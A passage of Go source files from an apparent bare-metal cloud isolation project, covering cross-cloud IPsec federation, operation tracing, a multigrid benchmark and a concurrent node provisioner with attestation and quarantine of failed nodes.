		t.Fatalf("free pool after rollback = %d, want 2", len(free))
	}
	if _, err := remoteCloud.BMI.ExtractBootInfo(context.Background(), "ghost"); !errors.Is(err, bmi.ErrNotFound) {
		t.Fatalf("missing image over wire = %v, want wrapped bmi.ErrNotFound", err)
	}
}

// TestDialRejectsPartialSurface: a HIL-only server (the pre-refactor
// boltedd shape) is not a full service plane.
func TestDialRejectsPartialSurface(t *testing.T) {
	cloud, _ := startServer(t, 1)
	srv := httptest.NewServer(hil.NewHandler(cloud.LocalHIL()))
	defer srv.Close()
	if _, err := Dial(srv.URL); err == nil {
		t.Fatal("Dial accepted a HIL-only server")
	}
}
