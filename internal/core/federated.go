package core

import (
	"context"
	"errors"
	"fmt"
	"sync"

	"bolted/internal/ipsec"
)

// FederatedEnclave realizes §4.3's federation claim: "Since the
// different Bolted services are independent, being orchestrated by
// tenant scripts, it is straightforward for a tenant to use capacity
// from multiple isolation services." One tenant drives enclaves in
// several independent clouds (e.g. its own datacenter plus a partner's
// co-location facility); nodes in different clouds share no switch
// fabric, so all cross-cloud traffic runs over IPsec regardless of the
// per-cloud profile — exactly the paper's prescription for traffic that
// leaves a trusted isolation domain.
type FederatedEnclave struct {
	Profile Profile

	mu       sync.Mutex
	members  map[string]*Enclave // cloud label -> per-cloud enclave
	location map[string]string   // node name -> cloud label
	crossKey []byte
	tunnels  map[string]map[string]*ipsec.Endpoint // from node -> to node
}

// NewFederatedEnclave creates an empty federation under a profile. The
// per-cloud enclaves all use the same profile.
func NewFederatedEnclave(profile Profile) (*FederatedEnclave, error) {
	if err := profile.Validate(); err != nil {
		return nil, err
	}
	return &FederatedEnclave{
		Profile:  profile,
		members:  make(map[string]*Enclave),
		location: make(map[string]string),
		crossKey: randKey(32),
		tunnels:  make(map[string]map[string]*ipsec.Endpoint),
	}, nil
}

// Join adds a cloud to the federation under a unique label, creating
// the tenant's enclave (project, networks, verifier) in that cloud.
func (f *FederatedEnclave) Join(label string, cloud *Cloud, project string) (*Enclave, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if _, ok := f.members[label]; ok {
		return nil, fmt.Errorf("core: cloud label %q already joined", label)
	}
	e, err := NewEnclave(cloud, project, f.Profile)
	if err != nil {
		return nil, err
	}
	f.members[label] = e
	return e, nil
}

// Member returns the per-cloud enclave for a label.
func (f *FederatedEnclave) Member(label string) (*Enclave, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	e, ok := f.members[label]
	if !ok {
		return nil, fmt.Errorf("core: no cloud labelled %q", label)
	}
	return e, nil
}

// Addr is a federation-wide node address: "<cloud label>/<node name>".
// Node names are only unique within one cloud.
func Addr(label, node string) string { return label + "/" + node }

func splitAddr(addr string) (label, node string, err error) {
	for i := 0; i < len(addr); i++ {
		if addr[i] == '/' {
			return addr[:i], addr[i+1:], nil
		}
	}
	return "", "", fmt.Errorf("core: %q is not a federation address (label/node)", addr)
}

// AcquireNode brings a node from the labelled cloud into the
// federation, wiring IPsec tunnels to every member in OTHER clouds
// (same-cloud members use the per-cloud enclave's own mechanisms). It
// returns the node plus its federation-wide address.
func (f *FederatedEnclave) AcquireNode(ctx context.Context, label, image string) (string, *Node, error) {
	f.mu.Lock()
	e, ok := f.members[label]
	f.mu.Unlock()
	if !ok {
		return "", nil, fmt.Errorf("core: no cloud labelled %q", label)
	}
	n, err := e.AcquireNode(ctx, image)
	if err != nil {
		return "", nil, err
	}
	addr := Addr(label, n.Name)
	f.mu.Lock()
	defer f.mu.Unlock()
	f.tunnels[addr] = make(map[string]*ipsec.Endpoint)
	for peer, peerLabel := range f.location {
		if peerLabel == label {
			continue
		}
		a, b, err := ipsec.NewPair(ipsec.SuiteHWAES, pairKey(f.crossKey, addr, peer))
		if err != nil {
			return "", nil, err
		}
		f.tunnels[addr][peer] = a
		f.tunnels[peer][addr] = b
	}
	f.location[addr] = label
	return addr, n, nil
}

// Send moves tenant traffic between federation members. Same-cloud
// pairs use the member enclave's path (VLAN isolation, plus IPsec for
// encrypting profiles); cross-cloud pairs ALWAYS traverse the
// federation's IPsec tunnels — there is no shared isolation service to
// trust between clouds.
func (f *FederatedEnclave) Send(from, to string, payload []byte) ([]byte, error) {
	f.mu.Lock()
	fromLabel, ok1 := f.location[from]
	toLabel, ok2 := f.location[to]
	f.mu.Unlock()
	if !ok1 || !ok2 {
		return nil, errors.New("core: both endpoints must be federation members")
	}
	if fromLabel == toLabel {
		f.mu.Lock()
		e := f.members[fromLabel]
		f.mu.Unlock()
		_, fromNode, err := splitAddr(from)
		if err != nil {
			return nil, err
		}
		_, toNode, err := splitAddr(to)
		if err != nil {
			return nil, err
		}
		return e.Send(fromNode, toNode, payload)
	}
	f.mu.Lock()
	ep := f.tunnels[from][to]
	peer := f.tunnels[to][from]
	f.mu.Unlock()
	if ep == nil || peer == nil {
		return nil, fmt.Errorf("core: no cross-cloud SA between %s and %s", from, to)
	}
	pkt, err := ep.Send(payload)
	if err != nil {
		return nil, err
	}
	return peer.Recv(pkt)
}

// ReleaseNode returns a node (by federation address) to its cloud's
// free pool and tears down its cross-cloud tunnels.
func (f *FederatedEnclave) ReleaseNode(addr, saveAs string) error {
	f.mu.Lock()
	label, ok := f.location[addr]
	if !ok {
		f.mu.Unlock()
		return fmt.Errorf("core: node %q not in federation", addr)
	}
	delete(f.location, addr)
	for peer, ep := range f.tunnels[addr] {
		ep.Revoke()
		if back, ok := f.tunnels[peer]; ok {
			if bep, ok := back[addr]; ok {
				bep.Revoke()
				delete(back, addr)
			}
		}
	}
	delete(f.tunnels, addr)
	e := f.members[label]
	f.mu.Unlock()
	_, node, err := splitAddr(addr)
	if err != nil {
		return err
	}
	return e.ReleaseNode(node, saveAs)
}

// Nodes lists federation members as node -> cloud label.
func (f *FederatedEnclave) Nodes() map[string]string {
	f.mu.Lock()
	defer f.mu.Unlock()
	out := make(map[string]string, len(f.location))
	for n, l := range f.location {
		out[n] = l
	}
	return out
}
