package obs

import (
	"context"
	"encoding/json"
	"io"
	"sync"
	"time"
)

// The tracer half of the observability plane: a trace is one control-
// plane operation (its ID doubles as the trace ID), a span is one
// node × phase of the Figure-1 pipeline under it. The provisioner
// emits spans from the same run(phase, fn) closures that feed the
// BatchTimings phase breakdown, so traces and timings agree by
// construction; the /v1 surface exports a trace as NDJSON and
// `boltedctl op trace` renders it as a per-node timeline.

// SpanData is one finished (or in-flight: End zero) span, the NDJSON
// wire form of GET /v1/operations/{id}/trace.
type SpanData struct {
	Trace  string    `json:"trace"`
	Span   uint64    `json:"span"`
	Parent uint64    `json:"parent,omitempty"`
	Name   string    `json:"name"`
	Node   string    `json:"node,omitempty"`
	Start  time.Time `json:"start"`
	End    time.Time `json:"end,omitzero"`
	// DurationNS is End-Start for finished spans (0 while in flight).
	DurationNS int64  `json:"duration_ns,omitempty"`
	Error      string `json:"error,omitempty"`
}

// Span is a live handle on one recorded span. A nil *Span is a no-op,
// so call sites never guard on "is tracing enabled".
type Span struct {
	t    *Tracer
	data SpanData
}

// ID returns the span's ID within its trace (0 for a nil span).
func (s *Span) ID() uint64 {
	if s == nil {
		return 0
	}
	return s.data.Span
}

// End marks the span finished, recording err's message if non-nil.
// Ending twice keeps the first end time.
func (s *Span) End(err error) {
	if s == nil {
		return
	}
	s.t.mu.Lock()
	if s.data.End.IsZero() {
		s.data.End = time.Now()
		s.data.DurationNS = s.data.End.Sub(s.data.Start).Nanoseconds()
		if err != nil {
			s.data.Error = err.Error()
		}
	}
	s.t.mu.Unlock()
}

// trace is one operation's span list.
type trace struct {
	spans  []*Span
	nextID uint64
}

// Tracer records spans for a bounded number of traces, evicting the
// oldest whole trace past the retention bound — mirroring the
// Manager's MaxRetainedOps so a long-running boltedd does not grow
// memory with every acquisition it ever traced. All methods are safe
// for concurrent use; a nil *Tracer is a no-op.
type Tracer struct {
	mu     sync.Mutex
	max    int
	traces map[string]*trace
	order  []string // creation order, for eviction
}

// NewTracer returns a tracer retaining up to max traces (min 1).
func NewTracer(max int) *Tracer {
	if max < 1 {
		max = 1
	}
	return &Tracer{max: max, traces: make(map[string]*trace)}
}

// StartTrace opens a trace and its root span. Re-starting an existing
// trace ID adds another root-level span to it.
func (t *Tracer) StartTrace(id, name string) *Span {
	return t.startSpan(id, 0, name, "", true)
}

// StartSpan opens a child span under parent in an existing trace; it
// returns nil (a no-op span) when the trace is unknown — e.g. already
// evicted — so emitters never resurrect a pruned trace.
func (t *Tracer) StartSpan(traceID string, parent uint64, name, node string) *Span {
	return t.startSpan(traceID, parent, name, node, false)
}

func (t *Tracer) startSpan(traceID string, parent uint64, name, node string, create bool) *Span {
	if t == nil || traceID == "" {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	tr, ok := t.traces[traceID]
	if !ok {
		if !create {
			return nil
		}
		tr = &trace{}
		t.traces[traceID] = tr
		t.order = append(t.order, traceID)
		for len(t.order) > t.max {
			delete(t.traces, t.order[0])
			t.order = append([]string(nil), t.order[1:]...)
		}
	}
	tr.nextID++
	s := &Span{t: t, data: SpanData{
		Trace:  traceID,
		Span:   tr.nextID,
		Parent: parent,
		Name:   name,
		Node:   node,
		Start:  time.Now(),
	}}
	tr.spans = append(tr.spans, s)
	return s
}

// Spans snapshots a trace's spans in creation order; ok is false for
// an unknown (or evicted) trace.
func (t *Tracer) Spans(traceID string) ([]SpanData, bool) {
	if t == nil {
		return nil, false
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	tr, ok := t.traces[traceID]
	if !ok {
		return nil, false
	}
	out := make([]SpanData, len(tr.spans))
	for i, s := range tr.spans {
		out[i] = s.data
	}
	return out, true
}

// WriteNDJSON writes one span per line, creation order.
func WriteNDJSON(w io.Writer, spans []SpanData) error {
	enc := json.NewEncoder(w)
	for _, s := range spans {
		if err := enc.Encode(s); err != nil {
			return err
		}
	}
	return nil
}

// --- context propagation ---

// TraceContext carries the active trace through a context so deep
// pipeline code (the provisioner's per-phase closures) can emit spans
// without signature changes. The zero value is a valid no-op.
type TraceContext struct {
	Tracer *Tracer
	Trace  string
	Parent uint64 // span new children parent under
}

// Start opens a child span under the context's parent; nil-safe.
func (tc TraceContext) Start(name, node string) *Span {
	if tc.Tracer == nil {
		return nil
	}
	return tc.Tracer.StartSpan(tc.Trace, tc.Parent, name, node)
}

type traceCtxKey struct{}

// WithTrace attaches a trace context to ctx.
func WithTrace(ctx context.Context, tc TraceContext) context.Context {
	if tc.Tracer == nil {
		return ctx
	}
	return context.WithValue(ctx, traceCtxKey{}, tc)
}

// TraceFrom reads the active trace context (zero value when absent).
func TraceFrom(ctx context.Context) TraceContext {
	tc, _ := ctx.Value(traceCtxKey{}).(TraceContext)
	return tc
}
