package npb

import (
	"fmt"
	"math"
)

// MG — the MultiGrid benchmark: V-cycles of a geometric multigrid
// solver for the 1-D Poisson equation -u'' = f with homogeneous
// Dirichlet boundaries, domain-decomposed across ranks. Each smoothing
// sweep exchanges one-point halos with neighbours — the
// moderate-volume, latency-sensitive neighbour pattern MG contributes
// to Figure 7.
//
// The discretization is cell-centered (N cells, centers (i+1/2)h,
// Dirichlet faces via ghost = -u), which makes factor-two coarsening
// exactly nested at every level — vertex-centered coarsening would
// drift the coarse boundary by O(h) per level and spoil deep V-cycles.

// MGConfig sizes a run.
type MGConfig struct {
	PointsPerRank int // fine-grid cells per rank (power of two)
	Levels        int // multigrid levels
	Cycles        int // V-cycles
	Smooth        int // weighted-Jacobi sweeps per level per leg
}

// DefaultMGConfig returns a small configuration.
func DefaultMGConfig() MGConfig {
	return MGConfig{PointsPerRank: 64, Levels: 4, Cycles: 8, Smooth: 3}
}

// MGResult is the verified output.
type MGResult struct {
	InitialResidual float64
	FinalResidual   float64
	Cycles          int
}

// haloExchange swaps boundary values with neighbour ranks, returning
// the ghost values (left, right). World edges return 0; callers apply
// the Dirichlet ghost themselves.
func haloExchange(c *Comm, leftVal, rightVal float64) (ghostL, ghostR float64, err error) {
	n := c.Size()
	r := c.Rank()
	if r+1 < n {
		if err := c.SendF64s(r+1, []float64{rightVal}); err != nil {
			return 0, 0, err
		}
	}
	if r > 0 {
		if err := c.SendF64s(r-1, []float64{leftVal}); err != nil {
			return 0, 0, err
		}
	}
	if r > 0 {
		v, err := c.RecvF64s(r - 1)
		if err != nil {
			return 0, 0, err
		}
		ghostL = v[0]
	}
	if r+1 < n {
		v, err := c.RecvF64s(r + 1)
		if err != nil {
			return 0, 0, err
		}
		ghostR = v[0]
	}
	return ghostL, ghostR, nil
}

// mgLevel holds one grid level's local state.
type mgLevel struct {
	u, f []float64
	h    float64
}

// RunMG executes the distributed multigrid solve.
func RunMG(w *World, cfg MGConfig) (*MGResult, error) {
	if cfg.PointsPerRank < 1<<(cfg.Levels-1) {
		return nil, fmt.Errorf("npb: MG needs >= %d points/rank for %d levels", 1<<(cfg.Levels-1), cfg.Levels)
	}
	res := &MGResult{Cycles: cfg.Cycles}
	totalN := cfg.PointsPerRank * w.Size()

	err := w.Run(func(c *Comm) error {
		atLeftEdge := c.Rank() == 0
		atRightEdge := c.Rank() == c.Size()-1

		levels := make([]*mgLevel, cfg.Levels)
		n := cfg.PointsPerRank
		h := 1.0 / float64(totalN)
		for l := 0; l < cfg.Levels; l++ {
			levels[l] = &mgLevel{u: make([]float64, n), f: make([]float64, n), h: h}
			n /= 2
			h *= 2
		}
		// RHS: f = pi^2 sin(pi x) at cell centers; exact u = sin(pi x).
		for i := range levels[0].f {
			x := (float64(c.Rank()*cfg.PointsPerRank+i) + 0.5) * levels[0].h
			levels[0].f[i] = math.Pi * math.Pi * math.Sin(math.Pi*x)
		}

		// stencil returns (neighbourSum, diag) for cell i given ghosts.
		stencil := func(lv *mgLevel, i int, gl, gr float64) (nbr, diag float64) {
			diag = 2
			var left, right float64
			switch {
			case i > 0:
				left = lv.u[i-1]
			case atLeftEdge:
				diag++ // Dirichlet face: ghost = -u folds into the diagonal
			default:
				left = gl
			}
			switch {
			case i < len(lv.u)-1:
				right = lv.u[i+1]
			case atRightEdge:
				diag++
			default:
				right = gr
			}
			return left + right, diag
		}

		smooth := func(lv *mgLevel, sweeps int) error {
			h2 := lv.h * lv.h
			for s := 0; s < sweeps; s++ {
				gl, gr, err := haloExchange(c, lv.u[0], lv.u[len(lv.u)-1])
				if err != nil {
					return err
				}
				next := make([]float64, len(lv.u))
				for i := range lv.u {
					nbr, diag := stencil(lv, i, gl, gr)
					gs := (nbr + h2*lv.f[i]) / diag
					next[i] = lv.u[i] + (2.0/3.0)*(gs-lv.u[i])
				}
				lv.u = next
			}
			return nil
		}
		residual := func(lv *mgLevel) ([]float64, error) {
			gl, gr, err := haloExchange(c, lv.u[0], lv.u[len(lv.u)-1])
			if err != nil {
				return nil, err
			}
			h2 := lv.h * lv.h
			r := make([]float64, len(lv.u))
			for i := range lv.u {
				nbr, diag := stencil(lv, i, gl, gr)
				r[i] = lv.f[i] - (diag*lv.u[i]-nbr)/h2
			}
			return r, nil
		}
		norm := func(r []float64) (float64, error) {
			var s float64
			for _, v := range r {
				s += v * v
			}
			out, err := c.AllReduceSum([]float64{s})
			if err != nil {
				return 0, err
			}
			return math.Sqrt(out[0]), nil
		}

		// coarseSolve: gather the coarsest RHS, run the Thomas
		// algorithm on the global tridiagonal (diag 3/h^2 at the edge
		// cells from the Dirichlet faces), keep the local slice.
		coarseSolve := func(lv *mgLevel) error {
			fAll, err := c.AllGatherF64s(lv.f)
			if err != nil {
				return err
			}
			n := len(fAll)
			h2 := lv.h * lv.h
			diag := make([]float64, n)
			rhs := make([]float64, n)
			for i := range diag {
				diag[i] = 2 / h2
				rhs[i] = fAll[i]
			}
			diag[0], diag[n-1] = 3/h2, 3/h2
			off := -1 / h2
			for i := 1; i < n; i++ {
				m := off / diag[i-1]
				diag[i] -= m * off
				rhs[i] -= m * rhs[i-1]
			}
			u := make([]float64, n)
			u[n-1] = rhs[n-1] / diag[n-1]
			for i := n - 2; i >= 0; i-- {
				u[i] = (rhs[i] - off*u[i+1]) / diag[i]
			}
			copy(lv.u, u[c.Rank()*len(lv.u):])
			return nil
		}

		var vcycle func(l int) error
		vcycle = func(l int) error {
			lv := levels[l]
			if l == cfg.Levels-1 {
				return coarseSolve(lv)
			}
			if err := smooth(lv, cfg.Smooth); err != nil {
				return err
			}
			r, err := residual(lv)
			if err != nil {
				return err
			}
			// Cell-pair averaging restriction; coarse cell j is exactly
			// the union of fine cells 2j, 2j+1, so no halo is needed.
			coarse := levels[l+1]
			for j := range coarse.f {
				coarse.f[j] = (r[2*j] + r[2*j+1]) / 2
				coarse.u[j] = 0
			}
			if err := vcycle(l + 1); err != nil {
				return err
			}
			// Piecewise-constant prolongation over the cell pair.
			for j := range coarse.u {
				lv.u[2*j] += coarse.u[j]
				lv.u[2*j+1] += coarse.u[j]
			}
			return smooth(lv, cfg.Smooth)
		}

		r0, err := residual(levels[0])
		if err != nil {
			return err
		}
		init, err := norm(r0)
		if err != nil {
			return err
		}
		for cycle := 0; cycle < cfg.Cycles; cycle++ {
			if err := vcycle(0); err != nil {
				return err
			}
		}
		rF, err := residual(levels[0])
		if err != nil {
			return err
		}
		final, err := norm(rF)
		if err != nil {
			return err
		}
		if c.Rank() == 0 {
			res.InitialResidual = init
			res.FinalResidual = final
		}
		return c.Barrier()
	})
	if err != nil {
		return nil, err
	}
	return res, nil
}

// VerifyMG checks the V-cycles actually converged.
func VerifyMG(r *MGResult) error {
	if r.FinalResidual >= r.InitialResidual/10 {
		return fmt.Errorf("npb: MG residual %g did not drop 10x from %g", r.FinalResidual, r.InitialResidual)
	}
	if math.IsNaN(r.FinalResidual) || math.IsInf(r.FinalResidual, 0) {
		return fmt.Errorf("npb: MG residual is not finite")
	}
	return nil
}
