package core

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"sync"
	"time"

	"bolted/internal/bmi"
	"bolted/internal/obs"
)

// This file is the concurrent provisioner: a worker-pool pipeline that
// drives many nodes through the Figure-1 life cycle at once. The
// paper's prototype provisioned one server at a time, so a 16-blade
// enclave paid the full boot+attest latency per node sequentially;
// here the batch pays roughly one node's latency plus contention. Each
// node's failure is isolated: a blade that fails any phase is routed to
// the provider's rejected pool while its siblings continue to
// allocation, and a cancelled batch returns in-flight nodes to the
// free pool instead of leaking switch or storage state.

// DefaultBatchParallelism bounds how many nodes AcquireNodes keeps in
// flight at once. The per-node airlock design means concurrency is not
// limited by a single airlock (the §7.3 prototype limitation) — the
// bound only caps pressure on the shared HIL, BMI and verifier
// services.
const DefaultBatchParallelism = 8

// NodeFailure records a node that left the pipeline before allocation.
type NodeFailure struct {
	Node  string
	Phase string // canonical phase name (PhaseAirlock, ..., timing.go)
	Err   error
}

func (f NodeFailure) String() string {
	return fmt.Sprintf("%s failed %s: %v", f.Node, f.Phase, f.Err)
}

// BatchResult is the outcome of one AcquireNodes call.
type BatchResult struct {
	// Nodes are the new enclave members, sorted by name.
	Nodes []*Node
	// Failed are nodes quarantined in the provider's rejected pool.
	Failed []NodeFailure
	// Aborted are nodes returned to the free pool because the caller's
	// context ended mid-flight. They are healthy; they just never
	// finished.
	Aborted []NodeFailure
	// Timings is the per-phase breakdown, in the same vocabulary as
	// SimulateProvisioning.
	Timings BatchTimings
}

// AcquireNodes provisions n nodes concurrently through the Figure-1
// life cycle. Warm standbys go first: nodes parked in the enclave's
// warm pool take the kexec fast path (re-quote, network move, kexec —
// no PXE/boot/agent chain), and only the remainder is reserved cold
// from the free pool. All remaining nodes are reserved up front — if
// the free pool cannot supply them, nothing is touched (warm standbys
// return to the pool) and an error is returned. After that, per-node
// failures do not abort the batch: the failing node moves to the
// rejected pool and appears in BatchResult.Failed while its siblings
// continue. Cancelling ctx stops the pipeline at the next phase
// boundary and returns unfinished nodes to the free pool; nodes
// already allocated stay allocated and are returned alongside ctx's
// error.
func (e *Enclave) AcquireNodes(ctx context.Context, image string, n int) (*BatchResult, error) {
	if n < 1 {
		return nil, errors.New("core: batch size must be at least 1")
	}
	c := e.cloud
	start := time.Now()

	// Boot info is a property of the image, not the node: extract once
	// per batch instead of once per node.
	bootInfo, err := c.BMI.ExtractBootInfo(ctx, image)
	if err != nil {
		return nil, err
	}

	// Drain the warm pool first; cold reservation covers the shortfall.
	var warm []*warmNode
	pool := e.warmPool()
	if pool != nil {
		warm = pool.take(n)
	}

	// Reserve the cold remainder (cheap serialized HIL map updates;
	// concurrent AllocateAnyNode calls would race each other for the
	// same free node). Failing here leaves no trace: cold reservations
	// roll back and warm standbys return to the pool.
	names := make([]string, 0, n-len(warm))
	for i := 0; i < n-len(warm); i++ {
		name, err := c.HIL.AllocateAnyNode(ctx, e.Project)
		if err != nil {
			for _, got := range names {
				_ = c.HIL.FreeNode(context.Background(), e.Project, got)
				e.journal.record(EvReleased, got, "batch reservation rolled back")
			}
			if pool != nil {
				pool.putBack(warm, n-len(warm))
			}
			return nil, fmt.Errorf("core: reserved %d of %d nodes (%d warm): %w", len(names)+len(warm), n, len(warm), err)
		}
		e.journal.record(EvAllocated, name, "image="+image)
		names = append(names, name)
	}

	type batchJob struct {
		name string
		warm *warmNode // non-nil: kexec fast path
	}
	res := &BatchResult{}
	var mu sync.Mutex // guards res
	workers := DefaultBatchParallelism
	if workers > n {
		workers = n
	}
	jobs := make(chan batchJob)
	var wg sync.WaitGroup
	for i := 0; i < workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for job := range jobs {
				var node *Node
				var spans []phaseSpan
				var fail *provisionFailure
				if job.warm != nil {
					node, spans, fail = e.provisionWarmOne(ctx, job.warm, bootInfo)
				} else {
					node, spans, fail = e.provisionOne(ctx, job.name, bootInfo)
				}
				mu.Lock()
				for _, sp := range spans {
					res.Timings.observe(sp.phase, sp.d)
				}
				switch {
				case node != nil:
					res.Nodes = append(res.Nodes, node)
				case fail.aborted:
					res.Aborted = append(res.Aborted, fail.NodeFailure)
				default:
					res.Failed = append(res.Failed, fail.NodeFailure)
				}
				mu.Unlock()
			}
		}()
	}
	for _, wn := range warm {
		jobs <- batchJob{name: wn.name, warm: wn}
	}
	for _, name := range names {
		jobs <- batchJob{name: name}
	}
	close(jobs)
	wg.Wait()

	sort.Slice(res.Nodes, func(i, j int) bool { return res.Nodes[i].Name < res.Nodes[j].Name })
	sort.Slice(res.Failed, func(i, j int) bool { return res.Failed[i].Node < res.Failed[j].Node })
	sort.Slice(res.Aborted, func(i, j int) bool { return res.Aborted[i].Node < res.Aborted[j].Node })
	res.Timings.Wall = time.Since(start)
	if err := ctx.Err(); err != nil {
		return res, err
	}
	return res, nil
}

// phaseSpan is one node's measured time in one canonical phase.
type phaseSpan struct {
	phase string
	d     time.Duration
}

// phaseRunner builds the per-phase measurement closure both pipeline
// variants share: skip when the batch is already cancelled, time the
// phase into *spans (the BatchTimings source) and the phase histogram,
// and — when the context carries a trace (an operation started via the
// Manager) — emit a node×phase span parented under the operation's
// root. Timings, metrics and traces therefore agree by construction.
//
// When the enclave's ResiliencePolicy sets a PhaseDeadline, each phase
// runs under its own deadline-bounded child context: a phase wedged on
// an indefinitely hung backend fails with context.DeadlineExceeded and
// the node is rejected instead of the worker blocking forever.
func (e *Enclave) phaseRunner(ctx context.Context, node string, spans *[]phaseSpan) func(string, func(context.Context) error) error {
	tc := obs.TraceFrom(ctx)
	deadline := e.Resilience().PhaseDeadline
	return func(phase string, fn func(context.Context) error) error {
		if err := ctx.Err(); err != nil {
			return err
		}
		pctx := ctx
		cancel := context.CancelFunc(func() {})
		if deadline > 0 {
			pctx, cancel = context.WithTimeout(ctx, deadline)
		}
		t0 := time.Now()
		sp := tc.Start(phase, node)
		err := fn(pctx)
		cancel()
		sp.End(err)
		d := time.Since(t0)
		*spans = append(*spans, phaseSpan{phase, d})
		e.cloud.metrics.observePhase(phase, d)
		if deadline > 0 && errors.Is(err, context.DeadlineExceeded) && ctx.Err() == nil {
			e.cloud.metrics.phaseDeadline.Inc()
		}
		return err
	}
}

// provisionFailure annotates a NodeFailure with how the node left the
// pipeline: rejected (quarantined) or aborted (returned to free).
type provisionFailure struct {
	NodeFailure
	aborted bool
}

// provisionOne drives a single reserved node through the pipeline. On
// success the node is a full member and the return is (node, spans,
// nil); on failure the node has already been routed to the rejected
// pool (or the free pool, for cancellation) and the failure says which
// phase ended it.
func (e *Enclave) provisionOne(ctx context.Context, name string, boot *bmi.BootInfo) (*Node, []phaseSpan, *provisionFailure) {
	w := &nodeWork{name: name, boot: boot}
	var spans []phaseSpan
	run := e.phaseRunner(ctx, name, &spans)

	phase := PhaseAirlock
	err := run(PhaseAirlock, func(ctx context.Context) error { return e.airlockNode(ctx, name) })
	if err == nil {
		phase = PhaseBoot
		err = run(PhaseBoot, func(ctx context.Context) error { return e.bootNode(ctx, w) })
	}
	if err == nil && e.Profile.Attest {
		phase = PhaseAttest
		err = run(PhaseAttest, func(ctx context.Context) error { return e.attestNode(ctx, w) })
	}
	if err == nil {
		phase = PhaseProvision
		err = run(PhaseProvision, func(ctx context.Context) error {
			if err := e.provisionNode(ctx, w); err != nil {
				return err
			}
			return e.admitNode(w)
		})
	}
	if err == nil {
		return w.node, spans, nil
	}

	fail := &provisionFailure{NodeFailure: NodeFailure{Node: name, Phase: phase, Err: err}}
	// Abort only when the phase error IS the caller's cancellation. A
	// genuine phase failure (say, compromised firmware) that merely
	// coincides with — or wraps — a cancellation must still quarantine
	// the node, never hand it back to the free pool.
	if ctxErr := ctx.Err(); ctxErr != nil && errors.Is(err, ctxErr) {
		fail.aborted = true
		e.abortNode(name, err)
	} else {
		e.rejectNode(name, phase, err)
	}
	return nil, spans, fail
}

// provisionWarmOne is the kexec fast path: the node arrives pre-booted
// in the attested runtime (airlock, PXE chain, agent registration and
// the provider-whitelist pre-attest already paid by the refiller), so
// the acquisition charges only the fresh-nonce re-quote with the
// tenant's payload, the network move, and the kexec — the warm-path
// phases of the timing model.
func (e *Enclave) provisionWarmOne(ctx context.Context, wn *warmNode, boot *bmi.BootInfo) (*Node, []phaseSpan, *provisionFailure) {
	w := &nodeWork{name: wn.name, boot: boot, agent: wn.agent, machine: wn.machine}
	w.kernel, w.initrd = boot.Kernel, boot.Initrd
	var spans []phaseSpan
	run := e.phaseRunner(ctx, wn.name, &spans)

	var err error
	banned := false    // revocation raced the fast path (checked at both gates)
	delivered := false // sealed payload (and any enclave PSK) released to the node
	checkBan := func() error {
		if reason, ok := e.bannedReason(wn.name); ok {
			banned = true
			return fmt.Errorf("core: standby revoked mid-acquisition: %s", reason)
		}
		return nil
	}
	phase := PhaseWarmRequote
	// First gate: a revocation that raced the fast path (the guard
	// found the standby already taken) banned the node instead of
	// tearing it down. Honour it before the re-quote would hand the
	// node the sealed payload.
	if err = checkBan(); err != nil {
		// Never admit; routed to the rejected pool below.
	} else if e.Profile.Attest {
		err = run(PhaseWarmRequote, func(ctx context.Context) error { return e.requoteWarm(ctx, w) })
		delivered = err == nil
	} else {
		// No attestation: nothing to re-quote; the fast path is just
		// the provision phase below.
		err = ctx.Err()
	}
	if err == nil {
		phase = PhaseWarmProvision
		err = run(PhaseWarmProvision, func(ctx context.Context) error {
			if err := e.provisionNode(ctx, w); err != nil {
				return err
			}
			// Last gate before membership: the ban may have landed
			// while the payload was in flight.
			if err := checkBan(); err != nil {
				return err
			}
			return e.admitNode(w)
		})
	}
	if err == nil {
		// The last gate ran before admitNode; a ban landing during
		// admission pairs with quarantineWarm's state check: if the
		// ban was recorded before this read, we see it here and undo
		// the admission; if after, quarantineWarm sees StateAllocated
		// and runs the member quarantine itself. Either side wins.
		if reason, late := e.bannedReason(wn.name); late {
			err = fmt.Errorf("core: standby revoked mid-acquisition: %s", reason)
			_ = e.QuarantineNode(wn.name, reason)
			if e.Profile.EncryptNetwork {
				_ = e.RotateNetKey()
			}
			return nil, spans, &provisionFailure{NodeFailure: NodeFailure{Node: wn.name, Phase: PhaseWarmProvision, Err: err}}
		}
		return w.node, spans, nil
	}

	fail := &provisionFailure{NodeFailure: NodeFailure{Node: wn.name, Phase: phase, Err: err}}
	// Same routing as the cold path: only the caller's own cancellation
	// returns the (healthy) node to the free pool — unless the node was
	// banned mid-flight, in which case it is never healthy and must not
	// transit the free pool. Any genuine failure quarantines it.
	if _, lateBan := e.bannedReason(wn.name); lateBan {
		banned = true // the ban landed after the last gate ran
	}
	if ctxErr := ctx.Err(); !banned && ctxErr != nil && errors.Is(err, ctxErr) {
		fail.aborted = true
		e.abortNode(wn.name, err)
	} else {
		e.rejectNode(wn.name, phase, err)
	}
	if banned && delivered && e.Profile.EncryptNetwork {
		// The sealed payload already carried the enclave PSK to a node
		// now known to be compromised: retire that key on every
		// surviving member, exactly like a member quarantine would.
		_ = e.RotateNetKey()
	}
	return nil, spans, fail
}

// releaseNodeResources is the cleanup shared by rejection, abort and
// quarantine: stop any continuous-attestation loop, forget the node at
// the verifier (a fresh attempt on a repaired node starts from
// scratch), stop its agent, and tear down its storage. Errors from
// resources the node never reached are ignored.
func (e *Enclave) releaseNodeResources(name string) {
	ctx := context.Background()
	if e.verifier != nil {
		e.verifier.StopMonitoring(name)
		e.verifier.RemoveNode(name)
	}
	_ = e.cloud.Driver.StopAgent(ctx, name)
	_ = e.cloud.BMI.Unexport(ctx, name, "")
	_ = e.cloud.BMI.DeleteImage(ctx, e.volName(name))
}

// rejectNode quarantines a node that failed a phase: off every
// network and parked in the provider's rejected pool for forensics.
// The node moves there directly — it must never transit the free
// pool, where a concurrent batch could claim it.
func (e *Enclave) rejectNode(name, phase string, cause error) {
	e.releaseNodeResources(name)
	e.cloud.MarkRejected(e.Project, name, cause.Error())
	_ = e.cloud.HIL.DeleteNetwork(context.Background(), e.Project, airlockNet(name))
	_ = e.lc.to(name, StateRejected, phase+": "+cause.Error())
}

// abortNode unwinds a node whose batch was cancelled: same cleanup as
